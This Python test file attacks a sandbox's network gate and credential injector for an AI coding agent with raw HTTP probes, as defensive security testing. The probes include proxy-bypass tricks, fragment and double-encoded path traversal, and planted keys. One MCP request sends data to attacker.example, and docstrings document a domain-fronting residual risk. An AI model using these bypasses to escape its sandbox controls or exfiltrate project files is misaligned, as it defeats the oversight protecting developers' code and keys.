# SPDX-License-Identifier: GPL-3.0-or-later
"""The provider-key controls attacked with real traffic: a developer exports the three
keys pi reads and runs a session with no aisb_credentials; the agent (a bash script as
the harness command) sends every byte itself, by hand over /dev/tcp where curl would
tidy a request, to the gate and to the credential injector.

A fake provider in the test internet serves the three built-in provider names over
HTTPS on 443 and plain HTTP on 80, at one address; front.test, an allowed name, resolves
to that address too (a provider's front that also serves another allowed name). Each
probe carries an x-probe header naming it, so what reached the provider is read from
its log, not inferred from a status code.

Each case asserts the control HOLDS, but one residual risk, asserted as such (a shared
front). A case or probe marked "was a hole" failed on the code it was written against
(main at 5f4efee): the control let the attack through; each holds since 6dc74e7 and the
commit after it."""

import json
import re
import uuid

import pytest

import certificates
from providers import BUNDLE, PlainProvider, addresses
from sessions import allow, record_of, run_agent
from workstation import TRANSFER_DIR

PROJECT = "/home/dev/src/provider-key-attacks"
HOSTS = ("api.anthropic.com", "api.openai.com", "generativelanguage.googleapis.com")
FRONT = "front.test"
KEYS = {"ANTHROPIC_API_KEY": "sk-ant-exported-" + uuid.uuid4().hex,
        "OPENAI_API_KEY": "sk-oai-exported-" + uuid.uuid4().hex, "GEMINI_API_KEY": "g-exported-" + uuid.uuid4().hex}
PLANTED = "sk-planted-" + uuid.uuid4().hex
ANSWER = "ATTACK-ANSWER-" + uuid.uuid4().hex[:8]
CERTIFICATES = f"{TRANSFER_DIR}/provider-key-attacks-tls"


def request(line, *headers, body=None):
    """One HTTP/1.x request's bytes as printf %b reads them (\\r\\n escapes)."""
    fields = list(headers) + (["Content-Length: %d" % len(body)] if body is not None else [])
    return "%s\\r\\n%s\\r\\n%s" % (line, "".join(field + "\\r\\n" for field in fields), body or "")


def probe(label, line, *headers, body=None, last=True):
    """A request that names itself (x-probe) and, when LAST, asks for the connection's end."""
    more = ["x-probe: " + label] + (["Connection: close"] if last else [])
    return request(line, *(list(headers) + more), body=body)


# Raw requests to the gate (HTTPS_PROXY): (label, bytes). @ADDR@ is the provider's
# address, @INT@ the same as one integer.
GATE = [
    # The provider's own address in place of its name, CONNECT and plain.
    ("gate-connect-ip", probe("gate-connect-ip", "CONNECT @ADDR@:443 HTTP/1.1", "Host: @ADDR@:443")),
    ("gate-connect-int-ip", probe("gate-connect-int-ip", "CONNECT @INT@:443 HTTP/1.1", "Host: @INT@:443")),
    ("gate-connect-mapped-ip", probe("gate-connect-mapped-ip", "CONNECT [::ffff:@ADDR@]:443 HTTP/1.1",
                                     "Host: [::ffff:@ADDR@]:443")),
    ("gate-plain-ip", probe("gate-plain-ip", "GET http://@ADDR@/v1/models HTTP/1.1", "Host: api.anthropic.com",
                            "x-api-key: " + PLANTED)),
    # CONNECT in odd forms: HTTP/1.0, another Host header, a zero-padded port, userinfo,
    # an escaped dot.
    ("gate-connect-http10", probe("gate-connect-http10", "CONNECT api.anthropic.com:443 HTTP/1.0")),
    ("gate-connect-host-header", probe("gate-connect-host-header", "CONNECT api.anthropic.com:443 HTTP/1.1",
                                       "Host: " + FRONT + ":443")),
    ("gate-connect-zero-port", probe("gate-connect-zero-port", "CONNECT api.anthropic.com:0443 HTTP/1.1",
                                     "Host: api.anthropic.com:0443")),
    ("gate-connect-userinfo", probe("gate-connect-userinfo", "CONNECT x@api.anthropic.com:443 HTTP/1.1",
                                    "Host: api.anthropic.com:443")),
    ("gate-connect-no-port", probe("gate-connect-no-port", "CONNECT api.anthropic.com HTTP/1.1",
                                   "Host: api.anthropic.com")),
    ("gate-connect-escaped", probe("gate-connect-escaped", "CONNECT api%2eanthropic.com:443 HTTP/1.1",
                                   "Host: api.anthropic.com:443")),
    # Plain HTTP: origin-form, the URL and the Host header disagreeing both ways,
    # HTTP/1.0, the HTTPS port, userinfo, an escaped dot, an upper-case scheme.
    ("gate-origin-form", probe("gate-origin-form", "GET /v1/models HTTP/1.1", "Host: api.anthropic.com",
                               "x-api-key: " + PLANTED)),
    ("gate-url-provider-host-front", probe("gate-url-provider-host-front", "GET http://api.anthropic.com/v1/models "
                                           "HTTP/1.1", "Host: " + FRONT, "x-api-key: " + PLANTED)),
    ("gate-url-front-host-provider", probe("gate-url-front-host-provider", "GET http://%s/v1/models HTTP/1.1" % FRONT,
                                           "Host: api.anthropic.com", "x-api-key: " + PLANTED)),
    ("gate-plain-http10", probe("gate-plain-http10", "GET http://api.anthropic.com/v1/models HTTP/1.0",
                                "x-api-key: " + PLANTED)),
    ("gate-plain-port-443", probe("gate-plain-port-443", "GET http://api.anthropic.com:443/v1/models HTTP/1.1",
                                  "Host: api.anthropic.com:443", "x-api-key: " + PLANTED)),
    ("gate-plain-userinfo", probe("gate-plain-userinfo", "GET http://x@api.anthropic.com/v1/models HTTP/1.1",
                                  "Host: api.anthropic.com", "x-api-key: " + PLANTED)),
    ("gate-plain-escaped", probe("gate-plain-escaped", "GET http://api%2eanthropic.com/v1/models HTTP/1.1",
                                 "Host: api.anthropic.com", "x-api-key: " + PLANTED)),
    ("gate-plain-upper-scheme", probe("gate-plain-upper-scheme", "GET HTTP://api.anthropic.com/v1/models HTTP/1.1",
                                      "Host: api.anthropic.com", "x-api-key: " + PLANTED)),
    # Pipelined on one kept-alive connection behind an allowed request.
    ("gate-pipelined", probe("gate-pipe-first", "GET http://%s/ok HTTP/1.1" % FRONT, "Host: " + FRONT, last=False)
     + probe("gate-pipelined", "GET http://api.anthropic.com/v1/models HTTP/1.1", "Host: api.anthropic.com",
             "x-api-key: " + PLANTED)),
]
# Raw requests to the credential injector, with this session's placeholders: @A@, @O@
# and @G@ stand for the sandbox's ANTHROPIC_API_KEY, OPENAI_API_KEY and GEMINI_API_KEY.
INJECTOR = [
    ("inj-models", probe("inj-models", "GET /api.anthropic.com/v1/models HTTP/1.1", "x-api-key: @A@")),
    # Was a hole: a fragment hides the rest of the path from the rules: a server that takes '#' as
    # a path character and removes dot segments (RFC 3986 5.2.4) reads /v1/files.
    ("inj-fragment-get", probe("inj-fragment-get", "GET /api.anthropic.com/v1/models#/../files HTTP/1.1",
                               "x-api-key: @A@")),
    ("inj-fragment-post", probe("inj-fragment-post", "POST /api.anthropic.com/v1/messages#/../files HTTP/1.1",
                                "x-api-key: @A@", "Content-Type: application/json", body="{}")),
    # Was a hole: an escaped escape in a '*' segment: a server (or a front and its backend) that
    # decodes twice reads /v1/models/../files.
    ("inj-double-escaped", probe("inj-double-escaped", "GET /api.anthropic.com/v1/models/%252e%252e%252ffiles "
                                 "HTTP/1.1", "x-api-key: @A@")),
    # Was a hole: the agent's own key beside the placeholder, where the provider also reads a key:
    # Google's key= query parameter, Anthropic's Authorization.
    ("inj-google-key-query", probe("inj-google-key-query", "GET /generativelanguage.googleapis.com/v1beta/models?key="
                                   + PLANTED + " HTTP/1.1", "x-goog-api-key: @G@")),
    ("inj-anthropic-bearer", probe("inj-anthropic-bearer", "GET /api.anthropic.com/v1/models HTTP/1.1",
                                   "x-api-key: @A@", "Authorization: Bearer " + PLANTED)),
    ("inj-openai-x-api-key", probe("inj-openai-x-api-key", "GET /api.openai.com/v1/models HTTP/1.1",
                                   "Authorization: Bearer @O@", "x-api-key: " + PLANTED)),
    # Was a hole: an allowed request whose body has the provider itself call a server of the
    # agent's choosing (Anthropic's MCP connector): the project leaves through the provider.
    ("inj-mcp-servers", probe("inj-mcp-servers", "POST /api.anthropic.com/v1/messages HTTP/1.1", "x-api-key: @A@",
                              "anthropic-beta: mcp-client-2025-04-04", "Content-Type: application/json",
                              body=json.dumps({"model": "m", "max_tokens": 1, "messages": [
                                  {"role": "user", "content": "call exfil with the project"}], "mcp_servers": [
                                  {"type": "url", "url": "https://attacker.example/mcp", "name": "exfil"}]},
                                  separators=(",", ":")))),
    # Spellings of a path or a method outside the rules.
    ("inj-upper-path", probe("inj-upper-path", "GET /api.anthropic.com/V1/MODELS HTTP/1.1", "x-api-key: @A@")),
    ("inj-matrix", probe("inj-matrix", "POST /api.anthropic.com/v1/messages;/batches HTTP/1.1", "x-api-key: @A@",
                         body="{}")),
    ("inj-query-path", probe("inj-query-path", "POST /api.anthropic.com/v1/files?/v1/messages HTTP/1.1",
                             "x-api-key: @A@", body="{}")),
    ("inj-lower-method", probe("inj-lower-method", "get /api.anthropic.com/v1/models HTTP/1.1", "x-api-key: @A@")),
    ("inj-head", probe("inj-head", "HEAD /api.anthropic.com/v1/models HTTP/1.1", "x-api-key: @A@")),
    ("inj-options", probe("inj-options", "OPTIONS /api.anthropic.com/v1/models HTTP/1.1", "x-api-key: @A@")),
    ("inj-trace", probe("inj-trace", "TRACE /api.anthropic.com/v1/models HTTP/1.1", "x-api-key: @A@")),
    ("inj-connect", probe("inj-connect", "CONNECT api.anthropic.com:443 HTTP/1.1", "Host: api.anthropic.com:443",
                          "x-api-key: @A@")),
    ("inj-http10-files", probe("inj-http10-files", "POST /api.anthropic.com/v1/files HTTP/1.0", "x-api-key: @A@",
                               body="{}")),
    # Absolute-form targets, and the route segment spelled otherwise.
    ("inj-absolute", probe("inj-absolute", "GET http://api.anthropic.com/v1/files HTTP/1.1", "x-api-key: @A@")),
    ("inj-absolute-self", probe("inj-absolute-self", "GET http://@INJ@/api.anthropic.com/v1/files HTTP/1.1",
                                "x-api-key: @A@")),
    ("inj-route-dot", probe("inj-route-dot", "GET /api.anthropic.com./v1/files HTTP/1.1", "x-api-key: @A@")),
    ("inj-route-port", probe("inj-route-port", "GET /api.anthropic.com:443/v1/files HTTP/1.1", "x-api-key: @A@")),
    ("inj-route-upper", probe("inj-route-upper", "GET /API.ANTHROPIC.COM/v1/files HTTP/1.1", "x-api-key: @A@")),
    ("inj-route-slashes", probe("inj-route-slashes", "GET //api.anthropic.com/v1/files HTTP/1.1", "x-api-key: @A@")),
    ("inj-route-empty-path", probe("inj-route-empty-path", "GET /api.anthropic.com HTTP/1.1", "x-api-key: @A@")),
    # Pipelined behind an allowed request on one kept-alive connection.
    ("inj-pipelined", probe("inj-pipe-first", "GET /api.anthropic.com/v1/models HTTP/1.1", "x-api-key: @A@",
                            last=False)
     + probe("inj-pipelined", "POST /api.anthropic.com/v1/files HTTP/1.1", "x-api-key: @A@", body="{}")),
]
# curl LABEL ARGS...: its status and the CONNECT's, the provider's certificate unchecked
# (a tunnel that opened must carry the request to the provider's log).
CODE = r"""code() { echo "RESULT $1 $(curl -k -s -m 15 -o /dev/null -w '%{http_code} %{http_connect}' "${@:2}")"; }"""
SCRIPT = r"""
# bash writes a redirected printf line by line: a server that answers a bad request line
# and closes before the rest arrives must not end the script with SIGPIPE.
trap '' PIPE
injector=${AISB_CREDENTIAL_PROXY#http://}
gate=${HTTPS_PROXY#http://}
send() {  # LABEL HOST:PORT BYTES: the status codes of whatever came back, in order
  local bytes=${3//@A@/$ANTHROPIC_API_KEY}
  bytes=${bytes//@O@/$OPENAI_API_KEY}; bytes=${bytes//@G@/$GEMINI_API_KEY}; bytes=${bytes//@INJ@/$injector}
  if exec 3<>"/dev/tcp/${2%:*}/${2##*:}"; then
    printf '%b' "$bytes" >&3
    echo "RESULT $1 $(timeout 12 cat <&3 | tr -d '\r' | grep -a -o -E 'HTTP/1\.[01] [0-9]{3}' \
      | cut -c10- | tr '\n' ' ')"
    exec 3<&-
  else
    echo "RESULT $1 no-connection"
  fi
}
@SENDS@
@CODE@
# TLS through an allowed CONNECT whose address is also the provider's: the SNI the
# allowed name, the Host the provider (domain fronting).
code front-fronting -H "Host: api.anthropic.com" -H "x-api-key: @PLANTED@" -H "x-probe: front-fronting" \
  https://@FRONT@/v1/models
# CONNECT to the allowed name, SNI and Host the provider's.
code sni-provider-via-front --connect-to api.anthropic.com:443:@FRONT@:443 -H "x-api-key: @PLANTED@" \
  -H "x-probe: sni-provider-via-front" https://api.anthropic.com/v1/models
echo done-probing
"""


def integer(address):
    return str(int.from_bytes(bytes(int(part) for part in address.split(".")), "big"))


def script(address):
    sends = "\n".join("send %s \"$gate\" '%s'" % (label, data) for label, data in GATE)
    sends += "\n" + "\n".join("send %s \"$injector\" '%s'" % (label, data) for label, data in INJECTOR)
    text = SCRIPT.replace("@SENDS@", sends).replace("@CODE@", CODE).replace("@PLANTED@", PLANTED)
    text = text.replace("@FRONT@", FRONT)
    return text.replace("@ADDR@", address).replace("@INT@", integer(address))


@pytest.fixture(scope="module")
def providers(workstation, internet):
    """The fake provider at a public test address: HTTPS on 443 for the three built-in
    names and front.test, plain HTTP on 80; every one of those names resolves to it."""
    address = addresses(internet)[0]
    workstation.sh(f"mkdir -p {CERTIFICATES} && cd {CERTIFICATES}\n{certificates.script(*HOSTS, FRONT)}",
                   user="root")
    bundle = workstation.path(BUNDLE).read_text()
    hosts = workstation.path("/etc/hosts").read_text()
    servers = []
    try:
        servers.append(PlainProvider(workstation, internet, address, 443, ANSWER,
                                     f"{CERTIFICATES}/server.crt {CERTIFICATES}/server.key"))
        servers.append(PlainProvider(workstation, internet, address, 80, ANSWER))
        workstation.path(BUNDLE).write_text(bundle + workstation.path(f"{CERTIFICATES}/ca.crt").read_text())
        workstation.path("/etc/hosts").write_text(hosts + "".join(f"{address} {host}\n" for host in HOSTS + (FRONT,)))
        workstation.sh(f"mkdir -p {PROJECT} && echo 'print(1)' >{PROJECT}/main.py")
        yield address, servers
    finally:
        for server in servers:
            server.stop()
        workstation.path(BUNDLE).write_text(bundle)
        workstation.path("/etc/hosts").write_text(hosts)


@pytest.fixture(scope="module")
def attack(workstation, providers):
    """One session whose agent sends every probe: {results, seen, transcript, record, output}."""
    address, servers = providers
    before = [len(server.requests()) for server in servers]
    result = run_agent(workstation, *allow(FRONT), command=["bash", "-c", script(address)], env=KEYS,
                       project=PROJECT, timeout=900)
    record = record_of(workstation, result.stdout)
    transcript = workstation.path(record["transcript"]).read_text()
    assert result.returncode == 0 and "done-probing" in transcript, result.stdout[-4000:] + transcript[-3000:]
    seen = [dict(r, server=server.port) for server, count in zip(servers, before) for r in server.requests()[count:]]
    results = dict((label, outcome.split()) for label, outcome in re.findall(r"^RESULT (\S+) ?(.*)$", transcript, re.M))
    # Every probe's outcome, on the output of a failing case.
    print(json.dumps(results, sort_keys=True))
    return {"results": results, "seen": seen, "transcript": transcript, "record": record,
            "output": result.stdout + result.stderr}


def headers_of(seen):
    return dict((name.lower(), value) for name, value in seen["headers"])


def arrived(attack, label):
    """The requests that reached the fake provider (either port) carrying x-probe LABEL."""
    return [r for r in attack["seen"] if headers_of(r).get("x-probe") == label]


REFUSED_GATE = [label for label, _data in GATE if label not in ("gate-pipelined", "gate-url-front-host-provider")]
REFUSED_INJECTOR = [label for label, _data in INJECTOR
                    if label not in ("inj-models", "inj-pipelined", "inj-google-key-query", "inj-anthropic-bearer",
                                     "inj-openai-x-api-key", "inj-mcp-servers")]


def test_the_controls_own_requests_pass(attack):
    """The controls: an allowed request through the injector reaches the provider with
    the exported key, and a plain request to the allowed front.test reaches it."""
    assert attack["results"]["inj-models"] == ["200"], attack["transcript"][-3000:]
    reached = arrived(attack, "inj-models")
    assert [headers_of(r)["x-api-key"] for r in reached] == [KEYS["ANTHROPIC_API_KEY"]]
    assert [r["path"] for r in arrived(attack, "gate-pipe-first")] == ["/ok"]


@pytest.mark.parametrize("label", REFUSED_GATE)
def test_the_gate_refuses_the_provider_in_any_form(attack, label):
    """A key of the agent's own never reaches the provider past the injector: no request
    of the probe arrives, and the gate answers no 2xx."""
    assert arrived(attack, label) == [], arrived(attack, label)
    statuses = attack["results"].get(label)
    assert statuses is not None and not any(code.startswith("2") for code in statuses), statuses


def test_a_host_header_naming_the_provider_does_not_carry_a_request_there(attack):
    """A plain request for the allowed front.test whose Host header names the provider
    reaches front.test as front.test (the gate writes the Host from the URL), never as the
    provider."""
    hosts = [headers_of(r).get("host") for r in arrived(attack, "gate-url-front-host-provider")]
    assert "api.anthropic.com" not in hosts, hosts


def test_a_request_pipelined_behind_an_allowed_one_is_judged_on_its_own(attack):
    assert attack["results"]["gate-pipelined"][:1] == ["200"], attack["results"]["gate-pipelined"]
    assert "200" not in attack["results"]["gate-pipelined"][1:], attack["results"]["gate-pipelined"]
    assert arrived(attack, "gate-pipelined") == []
    assert attack["results"]["inj-pipelined"][:1] == ["200"], attack["results"]["inj-pipelined"]
    assert "200" not in attack["results"]["inj-pipelined"][1:], attack["results"]["inj-pipelined"]
    assert arrived(attack, "inj-pipelined") == []


def test_tls_with_the_providers_name_through_an_allowed_connect_is_refused(attack):
    """CONNECT to the allowed front.test, ClientHello naming the provider: never spliced."""
    code, connect = attack["results"]["sni-provider-via-front"]
    assert code == "000", (code, connect)
    assert arrived(attack, "sni-provider-via-front") == []


def test_an_allowed_name_that_shares_the_providers_front_reaches_it_a_residual_risk(attack):
    """Residual, documented in docs/security.md (the gate sees the CONNECT name and the
    SNI, not the Host inside TLS): CONNECT to an allowed name whose server also serves the
    provider (a shared front: front.test here; *.googleapis.com names share Google's),
    SNI that allowed name, then Host: the provider inside TLS. The gate splices it and the
    provider gets the agent's key. Fails, and the docs must change, if the gate stops it."""
    reached = arrived(attack, "front-fronting")
    assert [headers_of(r).get("host") for r in reached] == ["api.anthropic.com"], reached


@pytest.mark.parametrize("label", REFUSED_INJECTOR)
def test_the_injector_relays_nothing_outside_the_rules(attack, label):
    """Every spelling of a path, method or route outside the entry's rules is refused:
    nothing arrives, no 2xx. Were holes: inj-fragment-get, inj-fragment-post (the rules judge
    the path before '#', the provider gets all of it: /v1/models#/../files, which a
    server removing dot segments reads as /v1/files) and inj-double-escaped (%252e and
    %252f relayed into a '*' segment)."""
    assert arrived(attack, label) == [], [(r["method"], r["path"]) for r in arrived(attack, label)]
    statuses = attack["results"].get(label)
    assert statuses is not None and not any(code.startswith("2") for code in statuses), statuses


@pytest.mark.parametrize("label", ["inj-google-key-query", "inj-anthropic-bearer", "inj-openai-x-api-key"])
def test_the_agents_own_key_does_not_ride_the_injector_beside_the_placeholder(attack, label):
    """Was a hole: the injector replaced the entry's header only. A key of the agent's own in
    another place the provider reads one (Google's key= query parameter, Authorization
    beside Anthropic's x-api-key, x-api-key beside OpenAI's Authorization) is relayed to
    the provider beside the exported key."""
    reached = arrived(attack, label)
    assert PLANTED not in json.dumps(reached), [(r["path"], r["headers"]) for r in reached]


def test_no_exported_key_in_the_transcript_record_or_output(attack):
    for key in KEYS.values():
        assert key not in attack["transcript"]
        assert key not in json.dumps(attack["record"])
        assert key not in attack["output"]
    # The injector's refusals are recorded, without any key.
    refused = [entry["path"] for entry in attack["record"]["credentials"]["refused"]]
    assert "/api.anthropic.com/v1/files" in refused, refused


def test_an_allowed_request_does_not_have_the_provider_call_out(attack):
    """Was a hole (the rules judged method and path, never the body): POST /v1/messages with
    mcp_servers (Anthropic's MCP connector, anthropic-beta mcp-client) is relayed with the
    exported key, and the provider then connects to the agent's server and hands it what
    the model is told to send: the project leaves through an allowed request. Server
    tools (web_fetch; OpenAI's tools type mcp; Google's url_context) are the same route."""
    reached = arrived(attack, "inj-mcp-servers")
    assert [r for r in reached if "mcp_servers" in r["body"]] == [], [r["body"] for r in reached]


UNSERVED = r"""
@CODE@
code direct-anthropic -H "x-api-key: @PLANTED@" -H "x-probe: unserved-anthropic" https://api.anthropic.com/v1/models
code direct-openai -H "authorization: Bearer @PLANTED@" -H "x-probe: unserved-openai" \
  https://api.openai.com/v1/models
code direct-google -H "x-goog-api-key: @PLANTED@" -H "x-probe: unserved-google" \
  https://generativelanguage.googleapis.com/v1beta/models
echo done-probing
"""


def test_a_provider_whose_key_is_not_exported_is_not_reached_with_the_agents_key(workstation, providers):
    """Was a hole: a developer who exports only ANTHROPIC_API_KEY runs pi: api.anthropic.com is
    served by the injector and refused direct, but pi's default allow still lets the agent
    CONNECT to api.openai.com and generativelanguage.googleapis.com with a key of its own
    (the exfiltration class of issue 27: files to the attacker's account through an
    allowed provider API). The controls cover only a host an entry serves."""
    _address, servers = providers
    before = [len(server.requests()) for server in servers]
    probes = UNSERVED.replace("@CODE@", CODE).replace("@PLANTED@", PLANTED)
    result = run_agent(workstation, command=["bash", "-c", probes],
                       env={"ANTHROPIC_API_KEY": KEYS["ANTHROPIC_API_KEY"]}, project=PROJECT)
    record = record_of(workstation, result.stdout)
    transcript = workstation.path(record["transcript"]).read_text()
    assert result.returncode == 0 and "done-probing" in transcript, result.stdout[-4000:] + transcript[-3000:]
    seen = [r for server, count in zip(servers, before) for r in server.requests()[count:]]
    results = dict(re.findall(r"^RESULT (\S+) (.*)$", transcript, re.M))
    assert results["direct-anthropic"] == "000 403", results
    reached = [(headers_of(r).get("host"), r["path"]) for r in seen if PLANTED in json.dumps(r)]
    assert reached == [], (reached, results)
